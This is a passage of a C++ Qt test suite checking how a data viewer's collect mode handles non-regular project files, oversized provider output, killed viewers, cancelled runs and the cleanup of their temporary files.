    void projectFileMustBeRegular()
    {
        const QString dir = m_dir.filePath(QStringLiteral("irregular"));
        QDir().mkpath(dir);
        const QString fifo = dir + QStringLiteral("/fifo.json");
        QCOMPARE(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
        const QString zero = dir + QStringLiteral("/zero.json");
        QVERIFY(QFile::link(QStringLiteral("/dev/zero"), zero));
        for (const QString &path : {fifo, zero}) {
            QElapsedTimer timer;
            timer.start();
            const auto run = ivtest::runViewer({QStringLiteral("--collect"), path}, 20000);
            QCOMPARE(run.exitCode, 2);
            QVERIFY2(run.err.contains("not a regular file"), run.err.constData());
            QVERIFY(timer.elapsed() < 10000);
        }
    }

    // A provider hands over a text longer than a snapshot cell may hold: the metric is refused.
    void cellCapAtWrite()
    {
        const QString dir = m_dir.filePath(QStringLiteral("cellcap"));
        QDir().mkpath(dir);
        const QString path = writeJson(
            dir + QStringLiteral("/p.json"),
            project(QStringLiteral("out.db"),
                    {command(QStringLiteral("long"), QStringLiteral("python3"),
                             {QStringLiteral("-c"),
                              QStringLiteral("import json; print(json.dumps({'app': 'a', 'kind': 'barchart', "
                                             "'label': 'big', 'values': [{'x': 1, 'y': 1, 'category': 'x' * "
                                             "100000}]}))")})}));
        const auto run = ivtest::runViewer({QStringLiteral("--collect"), path});
        QCOMPARE(run.exitCode, 1);
        QVERIFY2(run.err.contains("the category of value 1 has 100000 characters, more than the 65536"),
                 run.err.constData());
        QVERIFY(!QFile::exists(dir + QStringLiteral("/out.db")));
    }

    void providerDiesWithTheViewer()
    {
        const QString dir = m_dir.filePath(QStringLiteral("killed"));
        QDir().mkpath(dir);
        const QString pidFile = dir + QStringLiteral("/sleeper.pid");
        const QString path = writeJson(
            dir + QStringLiteral("/p.json"),
            project(
                QStringLiteral("killed.db"),
                {command(QStringLiteral("sleeper"), QStringLiteral("sh"),
                         {QStringLiteral("-c"), QStringLiteral("echo $$ > sleeper.pid; exec sleep 60")})}));
        QProcess viewer;
        viewer.setProcessChannelMode(QProcess::ForwardedErrorChannel);
        viewer.start(QStringLiteral(IV_VIEWER_BINARY), {QStringLiteral("--collect"), path});
        QVERIFY(viewer.waitForStarted());
        const qint64 provider = waitForPid(pidFile);
        QVERIFY(provider > 0);
        m_strays << provider;
        QVERIFY(alive(provider));
        QCOMPARE(temporaries(dir, QStringLiteral("killed.db")).size(), 1); // the output being written
        QVERIFY(temporaries(dir, QStringLiteral("killed.db"))
                    .first()
                    .startsWith(QStringLiteral(".killed.db.collecting-")));

        QElapsedTimer timer;
        timer.start();
        ::kill(static_cast<pid_t>(viewer.processId()), SIGKILL);
        QVERIFY(viewer.waitForFinished(5000));
        QVERIFY2(goneWithin(provider, 2000), "the provider outlived the viewer");
        qInfo("provider gone %lld ms after kill -9 of the viewer", static_cast<long long>(timer.elapsed()));

        // The killed run's temporary file is still there; so is one of a run that is alive (locked by us).
        const QStringList stale = temporaries(dir, QStringLiteral("killed.db"));
        QCOMPARE(stale.size(), 1);
        const QString live =
            writeText(dir + QStringLiteral("/.killed.db.collecting-1-live"), "being written");
        const int liveFd = ::open(QFile::encodeName(live).constData(), O_RDWR | O_CLOEXEC);
        QVERIFY(liveFd >= 0);
        QCOMPARE(::flock(liveFd, LOCK_EX | LOCK_NB), 0);
        const QString otherTarget =
            writeText(dir + QStringLiteral("/.other.db.collecting-2-dead"), "not ours to judge");
        // Killed between creating its file and locking it (the name it has until it is locked).
        const QString creating = writeText(dir + QStringLiteral("/.killed.db.creating-3-dead"), "");

        // The next run of the same output removes the dead run's file, and only that.
        const QString quick =
            writeJson(dir + QStringLiteral("/quick.json"),
                      project(QStringLiteral("killed.db"),
                              {command(QStringLiteral("ext"), QStringLiteral("python3"),
                                       {ivtest::dataPath(QStringLiteral("collect/ndjson.py"))})}));
        const auto run = ivtest::runViewer({QStringLiteral("--collect"), quick});
        ::close(liveFd);
        QVERIFY2(run.exitCode == 0, run.err.constData());
        QVERIFY2(run.err.contains("removed " + dir.toUtf8() + "/" + stale.first().toUtf8()),
                 run.err.constData());
        QCOMPARE(temporaries(dir, QStringLiteral("killed.db")),
                 QStringList{QStringLiteral(".killed.db.collecting-1-live")});
        QVERIFY(QFile::exists(otherTarget));
        QVERIFY(!QFile::exists(creating));
        QVERIFY(QFile::exists(dir + QStringLiteral("/killed.db")));
    }

    void cancelKillsTheProcessGroup()
    {
        const QString dir = m_dir.filePath(QStringLiteral("group"));
        QDir().mkpath(dir);
        // A run.sh-like provider whose own child does the (slow) work.
        const QString path = writeJson(
            dir + QStringLiteral("/p.json"),
            project(
                QStringLiteral("group.db"),
                {command(QStringLiteral("script"), QStringLiteral("sh"),
                         {QStringLiteral("-c"), QStringLiteral("sleep 60 & echo $! > child.pid; wait")})}));
        QString error;
        const auto p = load(path, &error);
        QVERIFY2(p, qPrintable(error));
        Collector collector;
        QVERIFY2(collector.prepare(*p, &error), qPrintable(error));
        Collector::Result result = Collector::Result::Success;
        std::unique_ptr<QThread> worker(QThread::create([&] { result = collector.run(); }));
        worker->start();
        const qint64 child = waitForPid(dir + QStringLiteral("/child.pid"));
        QVERIFY(child > 0);
        m_strays << child;
        QVERIFY(alive(child));
        collector.cancel();
        QVERIFY(worker->wait(10000));
        QCOMPARE(result, Collector::Result::Canceled);
        QVERIFY2(goneWithin(child, 2000), "the provider's child outlived the cancel");
        QCOMPARE(temporaries(dir, QStringLiteral("group.db")), QStringList());
    }
};

QTEST_GUILESS_MAIN(TestCollectTrust)
#include "tst_collecttrust.moc"
